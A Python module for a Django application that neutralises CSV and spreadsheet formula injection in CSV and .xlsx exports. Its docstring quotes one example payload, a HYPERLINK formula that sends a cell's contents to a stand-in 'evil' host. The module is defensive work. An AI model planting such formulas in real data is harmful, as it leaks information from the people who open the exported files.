"""Spreadsheet exports that cannot attack the person who opens them (CSV/formula injection).

A customer name such as `=HYPERLINK("http://evil/?"&A1, "click")` typed into a web-to-lead form would
run as a formula in Excel or LibreOffice when a manager opens the export. Every export goes through
this module:

- `safe_cell(value)`: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return (or
  the full-width `＝＋－＠` that spreadsheet software in CJK locales may also accept) gets a leading
  `'`, which spreadsheets show as text. Numbers, dates and booleans are left as they are.
- `csv_response(rows, header=..., filename=...)`: a streamed UTF-8 CSV (with a BOM, so Excel shows
  Chinese correctly), every cell through `safe_cell`.
- `xlsx_response(rows, header=..., filename=...)`: an .xlsx where every text cell is stored as text,
  never as a formula; text that starts like a formula also gets Excel's own "quote prefix" flag (the
  cell shows `+86 138…` unchanged and stays text when edited). Characters XML cannot hold become U+FFFD.
- `FormulaSafeResourceMixin`: the same rule for django-import-export resources (admin exports).

Usage in an app's view (rows come from a selector already scoped with `visible_to(user)`):

    return csv_response(
        ([c.name, c.get_tier_display(), c.owner, c.created_at] for c in customers),
        header=[_("Name"), _("Tier"), _("Owner"), _("Created")],
        filename="customers.csv",
    )
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.encoding import force_str

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _normalise(value: Any) -> Any:
    """None becomes "", numbers/dates/booleans pass through, anything else (model instances, lazy
    translations) becomes text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date | datetime | time):
        return value
    return force_str(value)


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: text that would start a formula gets a leading `'`."""
    value = _normalise(value)
    return "'" + value if looks_like_formula(value) else value


def _plain(value: Any) -> Any:
    """Aware datetimes in the current time zone, without tzinfo (what a spreadsheet can show)."""
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [_plain(safe_cell(value)) for value in row]


def content_disposition(filename: str) -> str:
    """`attachment` with an ASCII fallback and the UTF-8 name (RFC 6266), e.g. for 客户.csv."""
    ascii_name = filename.encode("ascii", "ignore").decode() or "export"
    ascii_name = ascii_name.replace('"', "").replace("\\", "")
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_rows(rows: Iterable[Sequence[Any]], header: Sequence[Any] | None = None) -> Iterator[str]:
    """The CSV text, line by line (BOM first), each cell made safe."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    if header is not None:
        yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(
    rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None, filename: str = "export.csv"
) -> StreamingHttpResponse:
    """A streamed CSV download: memory stays flat however many rows the (lazy) iterable yields."""
    response = StreamingHttpResponse(
        (line.encode("utf-8") for line in csv_rows(rows, header)), content_type=CSV_CONTENT_TYPE
    )
    response["Content-Disposition"] = content_disposition(filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


def xlsx_bytes(
    rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None, sheet_title: str = "Export"
) -> bytes:
    """An .xlsx workbook (openpyxl, write-only: rows are streamed into it) with safe text cells."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=force_str(sheet_title)[:31] or "Export")

    def cells(row: Iterable[Any]) -> list[Any]:
        out = []
        for value in row:
            value = _plain(_normalise(value))
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
                cell.data_type = "s"  # text, even when openpyxl would take it for a formula ("=...")
                if looks_like_formula(value):
                    cell.quotePrefix = True
                out.append(cell)
            else:
                out.append(value)
        return out

    if header is not None:
        sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any] | None = None,
    filename: str = "export.xlsx",
    sheet_title: str = "Export",
) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(rows, header=header, sheet_title=sheet_title), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition(filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


class FormulaSafeResourceMixin:
    """For django-import-export resources: every exported field goes through `safe_cell`.

        class CustomerResource(FormulaSafeResourceMixin, resources.ModelResource): ...
    """

    def export_field(self, field, instance, **kwargs):
        return safe_cell(super().export_field(field, instance, **kwargs))
